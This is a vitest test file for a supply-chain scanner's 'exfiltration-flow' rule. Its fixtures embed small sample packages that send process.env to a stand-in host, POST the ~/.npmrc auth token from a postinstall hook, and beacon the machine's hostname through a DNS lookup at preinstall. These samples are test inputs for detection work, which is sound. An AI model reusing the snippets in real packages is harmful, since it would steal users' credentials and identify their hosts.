import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';

const RULE = 'exfiltration-flow';

describe('exfiltration-flow reports', () => {
  test('env serialized through a helper and an object write reaches a request body, with the path', () => {
    const r = scanFiles({
      'index.js': [
        "const https = require('https');",
        'function pack(x) { return Buffer.from(JSON.stringify(x)).toString("base64"); }',
        'const payload = {};',
        'payload.data = pack(process.env);',
        "const req = https.request({ hostname: 'collector.invalid', method: 'POST' });",
        'req.end(JSON.stringify(payload));',
      ].join('\n'),
    });
    const [f] = r.of(RULE);
    expect(f?.severity).toBe('critical');
    expect(f?.signals).toContain('flow:secret');
    expect(f?.message).toContain('process.env');
    expect(f?.message).toMatch(/index\.js:4.*index\.js:6/);
    expect(r.verdict).toBe('malicious');
  });

  test('a credential file read in a callback flows to fetch', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node index.js' } }),
      'index.js': "const fs = require('fs'); const os = require('os');\nfs.readFile(os.homedir() + '/.npmrc', 'utf8', (err, data) => {\n  fetch('https://collector.invalid/x', { method: 'POST', body: data });\n});",
    });
    expect(r.of(RULE)[0]?.message).toMatch(/npm auth token file.*callback parameter data.*fetch/);
    expect(r.of(RULE)[0]?.reach).toBe('install');
    expect(r.verdict).toBe('malicious');
  });

  test('a source returned from one module and sent from another is followed across files', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { postinstall: 'node index.js' } }),
      'lib/collect.js': 'module.exports = () => ({ all: process.env });',
      'index.js': "const collect = require('./lib/collect');\nrequire('https').request('https://collector.invalid').end(JSON.stringify(collect()));",
    });
    const [f] = r.of(RULE);
    expect(f?.message).toContain('lib/collect.js:1');
    expect(f?.message).toContain('index.js:2');
    expect(r.verdict).toBe('malicious');
  });

  test('host identity in a DNS name at install is a fingerprint flow', () => {
    const r = scanFiles({
      'package.json': manifest({ scripts: { preinstall: 'node beacon.js' } }),
      'beacon.js': "const os = require('os'); const dns = require('dns');\nconst label = Buffer.from(os.hostname()).toString('hex');\ndns.lookup(label + '.collector.invalid', () => {});",
    });
    expect(r.of(RULE)[0]?.signals).toContain('flow:fingerprint');
    expect(r.verdict).toBe('malicious');
  });
});

describe('exfiltration-flow stays quiet', () => {
  test('an SDK sending its own API key to its own host is low and clean', () => {
    const r = scanFiles({
      'index.js': "module.exports = async (prompt) => fetch('https://api.example-llm.com/v1/complete', { method: 'POST', headers: { authorization: 'Bearer ' + process.env.EXAMPLE_API_KEY }, body: JSON.stringify({ prompt }) });",
    });
    for (const f of r.of(RULE)) expect(f.severity).toBe('low');
    expect(r.verdict).toBe('clean');
  });

  test('a call of a same-named local in another scope does not feed the function of that name', () => {
    // Minified bundles reuse one-letter names in every function: this C is a local, not the C that fetches.
    const r = scanFiles({
      'index.js': [
        "function C(e, t) { return fetch('https://api.example.com/log', { method: 'POST', body: JSON.stringify(t) }); }",
        'exports.report = (e) => C(e, { at: Date.now() });',
        'exports.render = (b) => {',
        '  const { taintObjectReference: C } = b;',
        "  C('Do not pass process.env to client components', process.env);",
        '};',
      ].join('\n'),
    });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('the same call in the scope of the function that fetches is a flow', () => {
    const r = scanFiles({
      'index.js': [
        "function C(e, t) { return fetch('https://collector.invalid/log', { method: 'POST', body: JSON.stringify(t) }); }",
        "exports.render = () => C('startup', process.env);",
      ].join('\n'),
    });
    expect(r.of(RULE)[0]?.severity).toBe('critical');
    expect(r.of(RULE)[0]?.message).toMatch(/passed to C\(\)/);
  });

  test('passing the environment to a child process is not a flow', () => {
    const r = scanFiles({ 'index.js': "const { spawn } = require('child_process');\nspawn('git', ['status'], { env: { ...process.env, GIT_TERMINAL_PROMPT: '0' } });" });
    expect(r.of(RULE)).toEqual([]);
    expect(r.verdict).toBe('clean');
  });

  test('reading env without sending it anywhere is not a flow', () => {
    const r = scanFiles({ 'index.js': "const cfg = JSON.stringify(process.env);\nrequire('fs').writeFileSync('debug.json', cfg);" });
    expect(r.of(RULE)).toEqual([]);
  });

  test('a dynamic single-variable read is not the whole environment', () => {
    const r = scanFiles({ 'index.js': "module.exports = (name) => fetch('https://api.example.com/?v=' + process.env[name]);" });
    expect(r.of(RULE)).toEqual([]);
  });
});
